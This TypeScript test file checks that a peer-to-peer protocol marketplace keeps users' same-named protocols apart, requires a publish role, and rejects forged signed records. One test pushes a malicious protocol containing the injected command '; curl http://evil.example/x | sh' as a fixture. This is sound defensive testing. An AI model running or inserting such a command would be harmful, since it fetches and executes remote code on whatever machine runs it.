import assert from 'node:assert/strict'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { createApiClient } from '../../src/client/index.js'
import { encodeRecord, signRecord } from '../../src/net/records.js'
import { MARKET, protocolRecords } from '../../src/marketplace/index.js'
import { until } from '../fixtures/wait.js'
import { protocolYaml, startMarketGrid, startMarkets } from './fixtures.js'
import type { ApiClient } from '../../src/client/index.js'
import type { TestNode } from '../fixtures/daemon.js'
import type { Grid } from '../fixtures/grid.js'
import type { Markets } from './fixtures.js'

const text = (bytes: Uint8Array): string => new TextDecoder().decode(bytes)

describe('marketplace: every protocol is its user\'s', function () {
  this.timeout(60_000)

  describe('two users of one node over HTTP', () => {
    let grid: Grid | undefined
    let a: TestNode
    let b: TestNode
    before(async () => {
      grid = await startMarketGrid(2)
      ;[a, b] = grid.nodes
      await until(async () => b.node.components.host.services.dht.routingTable.size > 0, 15_000, 'B to join A')
    })
    after(async () => {
      await grid?.stop()
    })

    async function user (name: string): Promise<ApiClient> {
      await a.client.put(`/repo/user/${name}`, { password: 'correct horse' })
      const { token } = await a.anonymous.post<any>(`/repo/auth/${name}`, { password: 'correct horse' })
      return createApiClient({ url: a.url, token })
    }
    const push = async (client: ApiClient, yaml: Uint8Array): Promise<any> =>
      await client.put('/repo/protocol/mnist.yaml', yaml, { raw: true, headers: { 'content-type': 'text/yaml' } } as any)

    it('keeps a second user\'s `mnist` from replacing the first one\'s: both coexist and the network serves each', async () => {
      const alice = await user('alice')
      const mallory = await user('mallory')
      const good = protocolYaml('mnist', 'Handwritten digits')
      const evil = protocolYaml('mnist', 'Handwritten digits', '; curl http://evil.example/x | sh')
      const first = await push(alice, good)
      const second = await push(mallory, evil)
      assert.equal(first.name, 'alice/mnist')
      assert.equal(second.name, 'mallory/mnist')
      assert.notEqual(first.version, second.version)

      const entries = (await a.anonymous.get<any>('/api/v1/marketplace/entries')).entries
      assert.deepEqual(entries.filter((e: any) => e.own).map((e: any) => [e.name, e.user]).sort(), [['alice/mnist', 'alice'], ['mallory/mnist', 'mallory']])

      const peer = a.node.components.peerId.toString()
      const pulled = await b.client.get<any>('/api/v1/marketplace/pull', { query: { ref: `${peer}/alice/mnist` } })
      assert.equal(pulled.head, first.version)
      assert.doesNotMatch(Buffer.from(pulled.contents[0].bytes, 'base64').toString(), /curl/)
      const ambiguous: any = await b.client.get('/api/v1/marketplace/pull', { query: { ref: `${peer}/mnist` } }).catch((err: any) => err)
      assert.equal(ambiguous.status, 409)
      assert.deepEqual(new Set(ambiguous.details.refs), new Set([`${peer}/alice/mnist`, `${peer}/mallory/mnist`]))
      const served = await a.anonymous.request('/repo/protocol/mnist.yaml', { query: { user: 'alice' } })
      assert.equal(served.headers.get('x-paip-user'), 'alice')
      assert.doesNotMatch(await served.text(), /curl/)
    })

    it('names the admin\'s protocols bare, so `<peer>/<name>` keeps meaning the admin\'s', async () => {
      const published = await push(a.client, protocolYaml('mnist', 'The admin\'s digits'))
      assert.equal(published.name, 'mnist')
      assert.equal(published.user, 'admin')
      const pulled = await b.client.get<any>('/api/v1/marketplace/pull', { query: { ref: `${published.publisher as string}/mnist` } })
      assert.equal(pulled.head, published.version)
    })

    it('needs the publish role to push', async () => {
      await a.client.post('/api/v1/users', { name: 'reader', password: 'correct horse', roles: ['read'] })
      const { token } = await a.anonymous.post<any>('/repo/auth/reader', { password: 'correct horse' })
      const refused = await push(createApiClient({ url: a.url, token }), protocolYaml('mnist', 'x')).catch((err: any) => err)
      assert.equal(refused.status, 403)
      assert.equal(refused.remoteName, 'RoleRequiredError')
    })
  })

  describe('names and signed records', () => {
    let net: Markets | undefined
    afterEach(async () => { await net?.stop(); net = undefined })

    it('refuses a push naming another user\'s protocol, unless the admin pushes it', async () => {
      net = await startMarkets(2)
      const [A] = net.nodes
      await A.market.publish({ user: 'alice', file: 'mnist.yaml', content: protocolYaml('mnist', 'Alice digits') })
      await assert.rejects(A.market.publish({ user: 'bob', name: 'alice/mnist', file: 'mnist.yaml', content: protocolYaml('mnist', 'Bob digits') }),
        (err: any) => err.name === 'NotOwnerError' && err.kind === 'forbidden' && err.details.owner === 'alice')
      const byAdmin = await A.market.publish({ user: 'admin', admin: true, name: 'alice/mnist', file: 'mnist.yaml', content: protocolYaml('mnist', 'Fixed by the admin') })
      assert.equal(byAdmin.name, 'alice/mnist')
      assert.equal(byAdmin.user, 'alice')
      assert.equal(byAdmin.versions, 2, 'on top of alice\'s history')
      const { selected } = await net.nodes[1].market.pull(`${A.host.peerId}/alice/mnist`)
      assert.match(text(selected.contentBytes), /Fixed by the admin/)
    })

    it('has every node refuse a signed record whose name is another user\'s', async () => {
      const key = await generateKeyPair('Ed25519')
      const records = protocolRecords()
      const value = { user: 'mallory', file: 'mnist.yaml', version: 'bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy', versions: 1, keywords: ['mnist'], description: '' }
      for (const name of ['alice/mnist', 'mnist']) {
        const forged = await signRecord(key, { namespace: MARKET.PROTOCOL_NAMESPACE, name, seq: Date.now(), value })
        await assert.rejects(records.validate(records.key(forged.publisher, name), encodeRecord(forged)), { name: 'InvalidRecordError' }, name)
        assert.equal(await records.select(records.key(forged.publisher, name), [encodeRecord(forged)]), 0)
      }
      const own = await signRecord(key, { namespace: MARKET.PROTOCOL_NAMESPACE, name: 'mallory/mnist', seq: Date.now(), value })
      await records.validate(records.key(own.publisher, 'mallory/mnist'), encodeRecord(own))
    })
  })
})
